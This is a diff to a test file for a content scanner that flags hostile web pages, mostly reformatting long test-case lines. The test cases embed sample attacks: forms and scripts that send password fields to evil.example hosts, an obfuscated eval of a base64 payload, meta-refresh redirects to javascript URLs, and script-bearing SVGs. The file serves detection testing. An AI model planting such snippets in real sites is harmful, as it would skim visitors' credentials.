@@ -5,7 +5,19 @@ import { useTestDb, uniqueEmail } from '@/testing/db';
 import { benignCorpus, hostileCorpus } from '@/testing/scan-corpus';
 import { BlobStore } from './blob-store';
 import { decodeInlineFiles, storeInlineFiles, validateManifest } from './files';
-import { maxMatchLength, normalizeHost, normalizeScript, readings, SCAN_VERSION, SCAN_WINDOW, scanBytes, scanSite, scanStream, scanText, windowStarts } from './scan';
+import {
+  maxMatchLength,
+  normalizeHost,
+  normalizeScript,
+  readings,
+  SCAN_VERSION,
+  SCAN_WINDOW,
+  scanBytes,
+  scanSite,
+  scanStream,
+  scanText,
+  windowStarts,
+} from './scan';
 import rules from './scan-rules.json';
 
 const P = Buffer.from('alert(document.cookie)').toString('base64');
@@ -35,7 +47,9 @@ describe('reading files as a browser does', () => {
     expect(readings(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('eval(x)', 'utf16le').swap16()]))).toEqual(['eval(x)']);
     expect(readings(Buffer.from('\ufeffeval(x)'))).toEqual(['eval(x)']);
     expect(readings(Buffer.from('<meta charset="iso-2022-jp">Coin\x1b(BHive', 'latin1'))).toContain('<meta charset="iso-2022-jp">CoinHive');
-    expect(readings(Buffer.from('<p>hello there, a page in UTF-16 without its BOM</p>', 'utf16le'))).toContain('<p>hello there, a page in UTF-16 without its BOM</p>');
+    expect(readings(Buffer.from('<p>hello there, a page in UTF-16 without its BOM</p>', 'utf16le'))).toContain(
+      '<p>hello there, a page in UTF-16 without its BOM</p>',
+    );
   });
 
   it('normalizes hosts: case, trailing dot, userinfo, port, percent-escapes, IDN', () => {
@@ -92,22 +106,46 @@ describe('content scanning, rule by rule', () => {
     ['obfuscated-eval', 'a.js', `eval/* a */(// b\natob("${P}"))`],
     ['meta-refresh-to-script', 'index.html', '<meta http-equiv="refresh" content="0; url=data:text/html;base64,PHNjcmlwdD4=">'],
     ['meta-refresh-to-script', 'index.html', '<meta content="0;url=javascript:alert(1)" http-equiv=REFRESH>'],
-    ['credential-form-other-origin', 'index.html', '<form action="https://evil.example/collect" method="post"><input name=u><input type="password" name=p></form>'],
+    [
+      'credential-form-other-origin',
+      'index.html',
+      '<form action="https://evil.example/collect" method="post"><input name=u><input type="password" name=p></form>',
+    ],
     ['credential-form-other-origin', 'index.html', '<form action="&#104;ttps://evil.example/c"><input type=password name=p>'],
     ['credential-form-other-origin', 'index.html', '<base href="https://evil.example/"><form action="c"><input type=password name=p></form>'],
-    ['credential-form-other-origin', 'index.html', '<form action="/l"><input type=password name=p><button formaction="https://evil.example/x">Go</button></form>'],
-    ['credential-script-other-origin', 'a.js', 'var p = document.querySelector("input[type=password]").value; fetch("https://evil.example/c", { method: "POST", body: p });'],
+    [
+      'credential-form-other-origin',
+      'index.html',
+      '<form action="/l"><input type=password name=p><button formaction="https://evil.example/x">Go</button></form>',
+    ],
+    [
+      'credential-script-other-origin',
+      'a.js',
+      'var p = document.querySelector("input[type=password]").value; fetch("https://evil.example/c", { method: "POST", body: p });',
+    ],
     ['svg-script', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
     ['svg-event-handler', 'logo.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="x = atob('${P}')"/>`],
-    ['svg-javascript-url', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
+    [
+      'svg-javascript-url',
+      'logo.svg',
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    ],
   ])('catches %s in %s: %s', (rule, path, text) => {
     expect(scanText(path, text)).toMatchObject({ rule, path });
   });
 
   it.each([
-    ['a landing page with a CDN script', 'index.html', '<!doctype html><h1>Hello</h1><script src="https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"></script>'],
+    [
+      'a landing page with a CDN script',
+      'index.html',
+      '<!doctype html><h1>Hello</h1><script src="https://cdn.jsdelivr.net/npm/alpinejs@3/dist/cdn.min.js"></script>',
+    ],
     ['a login form to its own site', 'index.html', '<form action="/login" method="post"><input type="password" name="p"></form>'],
-    ['a login form with an empty action and an off-site <a> link', 'index.html', '<form action=""><input type="password" name="p"></form><a href="https://coinhive.com/">archive</a>'],
+    [
+      'a login form with an empty action and an off-site <a> link',
+      'index.html',
+      '<form action=""><input type="password" name="p"></form><a href="https://coinhive.com/">archive</a>',
+    ],
     ['an external newsletter form without a password', 'index.html', '<form action="https://newsletter.example/subscribe"><input type="email"></form>'],
     ['a meta refresh to a page', 'index.html', '<meta http-equiv="refresh" content="5; url=/next">'],
     ['a bundle that uses atob and eval separately', 'a.js', 'const s = atob(x); const r = JSON.parse(s); function evaluate(){}; (0,eval)("this")'],
@@ -170,7 +208,8 @@ describe('files larger than a window are read as they stream, never whole', () =
       for (const [path, bytes] of Object.entries(entry.files)) {
         const whole = scanBytes(path, bytes);
         const streamed = await scanStream(path, pieces(bytes, 7));
-        if (JSON.stringify(streamed) !== JSON.stringify(whole)) differences.push(`${entry.name} ${path}: ${JSON.stringify(whole)} read whole, ${JSON.stringify(streamed)} streamed`);
+        if (JSON.stringify(streamed) !== JSON.stringify(whole))
+          differences.push(`${entry.name} ${path}: ${JSON.stringify(whole)} read whole, ${JSON.stringify(streamed)} streamed`);
       }
     expect(differences).toEqual([]);
   }, 120_000);
@@ -201,7 +240,8 @@ describe('files larger than a window are read as they stream, never whole', () =
 
   it('parses a 9 MB page as it streams: a script in its head that sends the password form at its end, and an eval deep inside a 9 MB inline script', async () => {
     const prose = '<p>ordinary words about the product and its many features</p>\n'.repeat(160_000);
-    const reader = '<script>const f = document.getElementById("signin"); f.addEventListener("submit", () => fetch("https://collect.evil.example/c", { method: "POST", body: new FormData(f) }));</script>';
+    const reader =
+      '<script>const f = document.getElementById("signin"); f.addEventListener("submit", () => fetch("https://collect.evil.example/c", { method: "POST", body: new FormData(f) }));</script>';
     const form = '<form id="signin" action="/login"><input type="email" name="email"><input type="password" name="password"><button>Sign in</button></form>';
     const page = Buffer.from(`<!doctype html><html><head>${reader}</head><body>${prose}${form}</body></html>`);
     expect(page.length).toBeGreaterThan(9 * 1024 * 1024);
